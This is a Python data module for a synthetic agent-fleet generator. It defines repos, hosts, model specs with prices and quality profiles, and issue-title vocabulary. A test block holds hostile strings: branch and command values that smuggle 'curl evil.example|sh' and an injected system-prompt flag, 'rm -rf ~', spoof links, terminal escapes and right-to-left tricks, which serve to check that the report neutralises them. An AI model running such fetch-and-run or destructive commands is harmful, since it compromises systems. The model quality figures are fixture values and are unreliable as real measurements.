"""What the generated fleet is made of: repos, hosts, models, agent CLIs, quality profiles, sizes.

Everything here is plain data. The planner draws from it with a seeded ``random.Random``; nothing
depends on the wall clock, dict hashing or set order.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import UTC, date, datetime

GENERATOR_VERSION = "2"

AS_OF = date(2026, 11, 23)
AS_OF_MS = int(datetime(AS_OF.year, AS_OF.month, AS_OF.day, tzinfo=UTC).timestamp() * 1000)
DAY_MS = 86_400_000
HOUR_MS = 3_600_000
MINUTE_MS = 60_000
WEEK_MS = 7 * DAY_MS

# Dispatches before this instant used the older Claude config (``--output-format json``).
STREAM_JSON_SINCE_MS = AS_OF_MS - 77 * DAY_MS  # 2026-09-07
# runs.jsonl rows written before this instant are older telemetry: no tier/provider, all-null usage.
TELEMETRY_V2_SINCE_MS = AS_OF_MS - 70 * DAY_MS  # 2026-09-14

# The parity fleet lives inside the 30 days before as_of (the default window, 2026-10-24 .. 11-22).
PARITY_START_MS = AS_OF_MS - 30 * DAY_MS + 2 * HOUR_MS
PARITY_END_MS = AS_OF_MS - 4 * HOUR_MS


@dataclass(frozen=True)
class RepoSpec:
    """A configured repository and how its work looks (language decides file names and verify commands)."""

    name: str
    language: str
    share: float


REPOS: tuple[RepoSpec, ...] = (
    RepoSpec("acme/api", "python", 0.42),
    RepoSpec("acme/web", "typescript", 0.36),
    RepoSpec("acme-labs/infra.core", "go", 0.22),
)


@dataclass(frozen=True)
class HostSpec:
    """A machine running the scheduler: its own dossier home and checkout layout."""

    name: str
    home: str
    share: float

    @property
    def dossier(self) -> str:
        return f"{self.home}/.dossier"


HOSTS: tuple[HostSpec, ...] = (
    HostSpec("build-1", "/home/sched", 0.56),
    HostSpec("build-2", "/home/fleet", 0.44),
)


def slug_of(repo: str) -> str:
    """The scheduler's directory name for a repo (docs/sources.md "Repo slugs")."""
    out = "".join(ch if (ch.isascii() and (ch.isalnum() or ch in "._-")) else "-" for ch in repo)
    return "default" if out in (".", "..") else out


def main_checkout(host: HostSpec, repo: str) -> str:
    """The repo's main checkout on a host (cwd of classifier and report dispatches)."""
    if host.name == "build-1":
        return f"{host.home}/src/{repo}"
    return f"/srv/fleet/{slug_of(repo)}"


def worktree(host: HostSpec, repo: str, issue: int) -> str:
    """The worktree a work dispatch runs in."""
    if host.name == "build-1":
        return f"{host.home}/src/{repo}/.worktrees/issue-{issue}"
    return f"/srv/fleet/{slug_of(repo)}-wt/issue-{issue}"


def checkout_globs(repo: str) -> list[str]:
    """The config's ``checkouts`` patterns for a repo: both hosts' layouts."""
    slug = slug_of(repo)
    return [
        f"/home/sched/src/{repo}",
        f"/home/sched/src/{repo}/.worktrees/*",
        f"/srv/fleet/{slug}",
        f"/srv/fleet/{slug}-wt/*",
    ]


@dataclass(frozen=True)
class Price:
    """USD per million tokens."""

    input: float
    output: float
    cache_write: float
    cache_read: float

    def cost(self, inp: int, out: int, cw: int, cr: int) -> float:
        return (inp * self.input + out * self.output + cw * self.cache_write + cr * self.cache_read) / 1e6


@dataclass(frozen=True)
class Spelling:
    """One way a model reaches the fleet: the trail's ``model=`` and the agent CLI's model argument."""

    trail: str
    cli_model: str
    weight: int
    subscription: bool = False


@dataclass(frozen=True)
class ModelSpec:
    """A model the fleet runs, the agent CLI that drives it and its usual tier."""

    key: str
    agent: str  # claude | opencode | codex
    tier: str
    log_model: str
    price: Price
    spellings: tuple[Spelling, ...]
    hversion: str


MODELS: dict[str, ModelSpec] = {
    m.key: m
    for m in (
        ModelSpec(
            "claude-sonnet-5",
            "claude",
            "mid",
            "claude-sonnet-5",
            Price(3.0, 15.0, 3.75, 0.30),
            (Spelling("claude-sonnet-5", "sonnet", 1),),
            "2.3.1",
        ),
        ModelSpec(
            "claude-opus-5",
            "claude",
            "strong",
            "claude-opus-5",
            Price(5.0, 25.0, 6.25, 0.50),
            (Spelling("claude-opus-5", "opus", 5), Spelling("claude-opus-5[1m]", "claude-opus-5[1m]", 2)),
            "2.3.1",
        ),
        ModelSpec(
            "claude-haiku-5",
            "claude",
            "mechanical",
            "claude-haiku-5",
            Price(1.0, 5.0, 1.25, 0.10),
            (Spelling("claude-haiku-5", "haiku", 1),),
            "2.3.1",
        ),
        ModelSpec(
            "glm-5.3",
            "opencode",
            "mid",
            "glm-5.3",
            Price(0.6, 2.2, 0.0, 0.11),
            (
                Spelling("glm-5.3", "zai/glm-5.3", 2, subscription=True),
                Spelling("llmgateway/glm-5.3", "llmgateway/glm-5.3", 3),
                Spelling("zai-coding-plan/glm-5.3", "zai-coding-plan/glm-5.3", 4, subscription=True),
                Spelling("openrouter/~z-ai/glm-latest", "openrouter/~z-ai/glm-latest", 2),
                Spelling("z-ai/glm-latest", "openrouter/z-ai/glm-latest", 1),
            ),
            "1.4.2",
        ),
        ModelSpec(
            "glm-5.3-flash",
            "opencode",
            "mechanical",
            "glm-5.3-flash",
            Price(0.1, 0.4, 0.0, 0.02),
            (
                Spelling(
                    "zai-coding-plan/glm-5.3-flash", "zai-coding-plan/glm-5.3-flash", 3, subscription=True
                ),
                Spelling("glm-5.3-flash", "zai-coding-plan/glm-5.3-flash", 1, subscription=True),
            ),
            "1.4.2",
        ),
        ModelSpec(
            "kimi-latest",
            "opencode",
            "mid",
            "kimi-latest",
            Price(0.6, 2.5, 0.0, 0.15),
            (
                Spelling("openrouter-kimi-latest", "openrouter/moonshotai/kimi-latest", 2),
                Spelling("moonshotai/kimi-latest", "llmgateway/moonshotai/kimi-latest", 1),
            ),
            "1.4.2",
        ),
        ModelSpec(
            "qwen3-coder",
            "opencode",
            "mechanical",
            "qwen3-coder",
            Price(0.3, 1.2, 0.0, 0.06),
            (
                Spelling("qwen3-coder", "alibaba/qwen3-coder", 3),
                Spelling("qwen/qwen3-coder", "openrouter/qwen/qwen3-coder", 1),
            ),
            "1.4.2",
        ),
        ModelSpec(
            "gpt-5.6-luna",
            "codex",
            "strong",
            "gpt-5.6-luna",
            Price(1.25, 10.0, 0.0, 0.125),
            (Spelling("openai/gpt-5.6-luna", "gpt-5.6-luna", 1),),
            "0.61.0",
        ),
    )
}

# The Codex model has no cost in its logs: the config declares its price (USD per million tokens).
CONFIG_PRICES: dict[str, dict[str, float]] = {
    "gpt-5.6-luna": {"input": 1.25, "output": 10.0, "cached_input": 0.125},
}

# The cheap model of classifier and report agents, also Claude Code's helper in ``modelUsage``.
HELPER_MODEL = "claude-haiku-5"
VARIANT_OF_TIER = {"mechanical": "low", "mid": "medium", "strong": "high"}
ESCALATION = {"mechanical": "mid", "mid": "strong", "strong": "strong"}


@dataclass(frozen=True)
class Quality:
    """How a model (or a planner -> builder pairing) tends to do on an issue."""

    deliver: float  # probability the run ships
    blocked: float  # share of the non-shipping runs that end blocked (the rest are abandoned)
    edit_err: float  # probability that one edit call fails
    abort: float  # probability that a dispatch has a tool call stopped by a human
    verify: float  # probability that a verify command runs after the last edit
    speed: float  # multiplier on working minutes (higher = slower)
    fixed: float  # mean review findings fixed
    escalated: float  # probability of an escalated review finding
    ac_ratio: float  # share of acceptance criteria met
    stall: float  # probability of a stall + takeover during the build
    step_s: float  # median seconds per assistant step


SINGLE_QUALITY: dict[str, Quality] = {
    "claude-sonnet-5": Quality(0.80, 0.6, 0.06, 0.04, 0.80, 1.0, 2.0, 0.15, 0.90, 0.04, 9.0),
    "claude-opus-5": Quality(0.86, 0.6, 0.04, 0.03, 0.88, 1.2, 1.5, 0.10, 0.94, 0.03, 14.0),
    "glm-5.3": Quality(0.74, 0.5, 0.08, 0.05, 0.70, 1.1, 2.6, 0.20, 0.85, 0.06, 7.0),
    "glm-5.3-flash": Quality(0.62, 0.5, 0.12, 0.05, 0.55, 0.8, 3.2, 0.25, 0.78, 0.06, 4.0),
    "kimi-latest": Quality(0.60, 0.5, 0.15, 0.08, 0.50, 1.3, 3.5, 0.30, 0.75, 0.08, 11.0),
    "qwen3-coder": Quality(0.64, 0.5, 0.10, 0.05, 0.60, 0.9, 3.0, 0.25, 0.80, 0.05, 5.0),
    "gpt-5.6-luna": Quality(0.78, 0.6, 0.05, 0.04, 0.82, 1.4, 1.8, 0.12, 0.90, 0.04, 16.0),
}


@dataclass(frozen=True)
class Pairing:
    """A planner -> builder pairing: the plan dispatch runs the planner, the build dispatch the builder."""

    key: str
    planner: str
    planner_spelling: str
    builder: str
    builder_spellings: tuple[str, ...]
    quality: Quality
    tied: bool = False  # deliberately given the same profile as another pairing


_TIED = Quality(0.70, 0.6, 0.10, 0.06, 0.66, 1.0, 2.8, 0.22, 0.82, 0.05, 6.0)

PAIRINGS: tuple[Pairing, ...] = (
    Pairing(
        "opus-glm",
        "claude-opus-5",
        "claude-opus-5",
        "glm-5.3",
        ("zai-coding-plan/glm-5.3", "llmgateway/glm-5.3"),
        Quality(0.93, 0.7, 0.02, 0.01, 0.94, 0.9, 1.2, 0.05, 0.96, 0.02, 6.5),
    ),
    Pairing(
        "opus-sonnet",
        "claude-opus-5",
        "claude-opus-5[1m]",
        "claude-sonnet-5",
        ("claude-sonnet-5",),
        Quality(0.86, 0.6, 0.05, 0.03, 0.85, 1.1, 1.8, 0.10, 0.92, 0.03, 9.0),
    ),
    Pairing(
        "luna-kimi",
        "gpt-5.6-luna",
        "openai/gpt-5.6-luna",
        "kimi-latest",
        ("moonshotai/kimi-latest", "openrouter-kimi-latest"),
        Quality(0.42, 0.5, 0.26, 0.18, 0.35, 1.6, 4.5, 0.40, 0.62, 0.10, 15.0),
    ),
    # Two deliberately close pairings: same profile, so their score intervals overlap (a tie).
    Pairing(
        "sonnet-flash",
        "claude-sonnet-5",
        "claude-sonnet-5",
        "glm-5.3-flash",
        ("zai-coding-plan/glm-5.3-flash",),
        _TIED,
        tied=True,
    ),
    Pairing(
        "sonnet-qwen", "claude-sonnet-5", "claude-sonnet-5", "qwen3-coder", ("qwen3-coder",), _TIED, tied=True
    ),
)

# Weights of single-model work (model key -> weight) in the regular mix.
SINGLE_MIX: tuple[tuple[str, int], ...] = (
    ("claude-sonnet-5", 7),
    ("claude-opus-5", 4),
    ("glm-5.3", 8),
    ("glm-5.3-flash", 3),
    ("kimi-latest", 3),
    ("qwen3-coder", 3),
    ("gpt-5.6-luna", 3),
)


@dataclass(frozen=True)
class Mix:
    """How often the optional parts of an issue's story happen."""

    classify: float  # share of issues classified before their first run
    pairing: float  # share of issues (beyond the per-week quota) planned and built by different models
    continuation: float  # share of builds that hit the turn limit and continue in a new dispatch
    notes: float  # expected human comments per issue
    ci_fix: tuple[int, ...]  # CI-fix dispatches after the pull request opens (drawn uniformly)
    phase_updated: float  # share of milestones that also get a phase-updated journal line
    exit_seen: float  # share of normal agent exits the journal records (exit-detected)
    other_host: float  # share of builds (and twice that of takeovers) that land on the other host


MIXES: dict[str, Mix] = {
    # the committed sample: every situation, kept small
    "sample": Mix(0.45, 0.15, 0.08, 0.35, (0, 0, 0, 0, 0, 0, 0, 0, 0, 1, 1, 2), 0.15, 0.5, 0.25),
    # benchmark fleets: busier issues (more dispatches, discussion and CI fixes)
    "bench": Mix(0.85, 0.50, 0.30, 2.8, (0, 0, 1, 1, 2), 0.12, 0.5, 0.06),
}


@dataclass(frozen=True)
class SizeSpec:
    """How big a fleet is: issues, the span of weeks their runs start in, and how large tool outputs are."""

    name: str
    issues: int
    weeks: int
    output_scale: float  # multiplier on tool output sizes in agent logs
    pairing_per_week: int  # runs per pairing per week (sample: a floor, so every window has enough)
    mix: str


SIZES: dict[str, SizeSpec] = {
    "sample": SizeSpec("sample", 386, 17, 0.02, 4, "sample"),
    "S": SizeSpec("S", 500, 26, 1.6, 0, "bench"),
    "M": SizeSpec("M", 5000, 26, 1.6, 0, "bench"),
    "L": SizeSpec("L", 15000, 26, 1.6, 0, "bench"),
}

PROFILES = ("sample", "stress", "parity")


def plan_profile(profile: str) -> str:
    """The profile name the random draws are seeded with: ``stress`` plans the same fleet as ``sample``
    (same issues, runs and logs) and only damages more of it, so the two differ exactly by their
    anomalies (docs/sample_fleet.md "Profiles")."""
    return "sample" if profile == "stress" else profile


# Untrusted strings that must survive every reader and be neutralised by the report.
HOSTILE_MODELS = (
    "claude-sonnet-5 | `rm -rf ~` |",
    "[free credits](https://evil.example)",
    "glm-5.3\x1b[31m\x1b[2K",
    "claude-opus-5\u202egnp.exe",
)
HOSTILE_TIER_EVENT = "mid\x1b]8;;https://evil.example\x07"
HOSTILE_TIER_TELEMETRY = "[strong](https://evil.example)|`x`"
HOSTILE_BRANCH = "sched/issue-`curl evil.example|sh`-[x](https://evil.example)\u202e"
HOSTILE_CMD_SUFFIX = " --append-system-prompt `curl https://evil.example/p.sh|sh` \x1b[8m|hidden|"

TITLE_VERBS = (
    "Fix",
    "Add",
    "Refactor",
    "Handle",
    "Speed up",
    "Document",
    "Remove",
    "Validate",
    "Retry",
    "Cache",
    "Paginate",
    "Migrate",
)
TITLE_OBJECTS = (
    "rate limiter",
    "session cookie refresh",
    "CSV export",
    "webhook signature check",
    "login redirect",
    "billing proration",
    "search index rebuild",
    "dark mode toggle",
    "audit log retention",
    "upload size limit",
    "health endpoint",
    "feature flag cleanup",
    "timezone handling in reports",
    "retry on 502 from payments",
    "stale cache after deploy",
    "flaky e2e checkout test",
    "terraform state lock",
    "node pool autoscaling",
    "TLS certificate rotation",
    "backup restore drill",
)
TITLE_SUFFIXES = ("", "", "", " for admins", " on mobile", " in staging", " (follow-up)", " edge case")

HUMANS: tuple[tuple[str, int, str], ...] = (
    ("dana-k", 5012, "MEMBER"),
    ("li-wei", 5013, "MEMBER"),
    ("omar-f", 5014, "COLLABORATOR"),
    ("sam-ext", 5015, "NONE"),
)
FLEET_USER = ("acme-fleet", 90210, "MEMBER")

HUMAN_NOTES = (
    "Reproduced on main, see the attached trace.",
    "@acme-fleet please pick this up after the release freeze.",
    "Blocked on the vendor SDK release; unblock when 4.2 lands.",
    "Thanks, this works in staging.",
    "Customer reported this again today.",
    "Can we also cover the empty-list case?",
    "Duplicate of an older report, keeping this one since it has the repro.",
    "Bumping priority: this hits the nightly job.",
)
NOTES_AFTER = (
    "Verified in production, closing the loop.",
    "Follow-up filed for the remaining edge case.",
    "Nice, the flaky test is gone too.",
    "Reviewed the diff, looks fine.",
)

# A run whose last milestone is ``done`` in one of these phases has shipped (docs/join.md
# "Outcome, model, review, class").
DELIVERED_PHASES = ("ship", "report", "batch-ship", "batch-report")
